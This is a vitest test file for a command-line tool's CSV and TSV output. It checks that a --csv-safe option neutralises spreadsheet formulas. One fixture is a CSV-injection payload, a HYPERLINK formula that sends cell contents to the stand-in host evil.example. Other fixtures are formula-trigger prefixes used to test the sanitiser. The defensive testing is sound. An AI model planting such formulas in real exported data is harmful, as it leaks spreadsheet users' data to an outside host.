import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { inertCell } from '../../../src/render/csv.js';
import { useHarness } from '../../helpers/harness.js';

/** docs/cli-contract.md "For scripts": piped TSV and --csv carry plain, exact values. */
const h = useHarness();

const FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"click")';
const createAd = (name: string, extra: string[] = []) => h.cr(['ads', 'create', '--format', 'single_image', '--name', name, '--url', 'https://shop.example.com/a', ...extra]);

describe('CSV and spreadsheets', () => {
  it('--csv keeps a formula-looking value exact: what the API holds, for scripts', async () => {
    const r = await createAd(FORMULA, ['--csv']);
    expect(r.exitCode, r.stderr).toBe(0);
    const [row] = parse(r.stdout, { columns: true }) as Record<string, string>[];
    expect(row!.name).toBe(FORMULA);
  });

  it('--csv --csv-safe: a leading quote makes it inert for a spreadsheet; numbers stay numbers; every text field quoted', async () => {
    const r = await createAd(FORMULA, ['--csv', '--csv-safe']);
    expect(r.exitCode, r.stderr).toBe(0);
    const [row] = parse(r.stdout, { columns: true }) as Record<string, string>[];
    expect(row!.name).toBe(`'${FORMULA}`);
    expect(r.stdout.split('\r\n')[1]).toMatch(/^"/);
    for (const [cell, out] of [
      ['@SUM(A1)', "'@SUM(A1)"],
      ['+1+2', "'+1+2"],
      ['-2+3', "'-2+3"],
      ['\tx', "'\tx"],
      ['\rx', "'\rx"],
      ['\0=1', "'\0=1"],
      [' =1+1', "' =1+1"],
      ['\u3000@SUM(A1)', "'\u3000@SUM(A1)"],
      ['\uff1d1+1', "'\uff1d1+1"],
      ['\uff0bcmd', "'\uff0bcmd"],
      ['a = b', 'a = b'],
      [' plain', ' plain'],
      ['-12.50', '-12.50'],
      ['+7', '+7'],
      ['plain', 'plain'],
    ] as const) {
      expect(inertCell(cell)).toBe(out);
    }
    expect(inertCell(-3)).toBe(-3);
  });

  it('--csv-safe goes with --csv only', async () => {
    const r = await h.cr(['nurture', 'list', '--csv-safe']);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain('--csv-safe goes with --csv');
  });

  it('--no-headers drops the CSV header row; refused where no table is printed', async () => {
    const r = await h.cr(['nurture', 'list', '--limit', '2', '--csv', '--no-headers']);
    expect(r.exitCode, r.stderr).toBe(0);
    expect(r.stdout.split('\r\n').filter(Boolean)).toHaveLength(2);
    expect(r.stdout).not.toContain('contentId');
    const refused = await h.cr(['auth', 'status', '--no-headers']);
    expect(refused.exitCode).toBe(2);
    expect(refused.stderr).toContain('--no-headers does not apply to `cr auth status`');
  });

  it('null is an empty field in every command, never "-"', async () => {
    const finance = (await h.cr(['finance', 'summary', '--csv'])).stdout;
    const brand = (await h.cr(['brand', 'subjects', '--csv'])).stdout;
    for (const text of [finance, brand, (await h.cr(['crm', 'agents', '--csv'])).stdout]) expect(text).not.toMatch(/(^|,)-(,|\r\n)/m);
  });
});

describe('piped TSV: plain values', () => {
  it('the id first in every list, ratios as numbers', async () => {
    for (const args of [
      ['nurture', 'list', '--limit', '2'],
      ['brand', 'subjects'],
      ['crm', 'agents'],
      ['learnings', 'list', '--limit', '2'],
    ]) {
      const r = await h.cr(args);
      expect(r.exitCode, r.stderr).toBe(0);
      for (const line of r.stdout.trimEnd().split('\n')) expect(line.split('\t')[0], args.join(' ')).not.toBe('');
    }
    const learnings = (await h.cr(['learnings', 'list', '--limit', '3'])).stdout.trimEnd().split('\n');
    for (const line of learnings) expect(line.split('\t')[1]).toMatch(/^(0(\.\d+)?|1)$/);
  });

  it('amounts as decimals without symbol or grouping, the currency in a column of its own, sums with awk', async () => {
    const entities = (await h.cr(['finance', 'summary'])).stdout
      .trimEnd()
      .split('\n')
      .filter((l) => l.startsWith('entity\t'))
      .map((l) => l.split('\t'));
    for (const cells of entities) {
      expect(cells[3]).toMatch(/^[A-Z]{3}$/);
      for (const i of [4, 7, 8, 9]) expect(cells[i]).toMatch(/^-?\d+\.\d{2}$/);
    }
  });
});
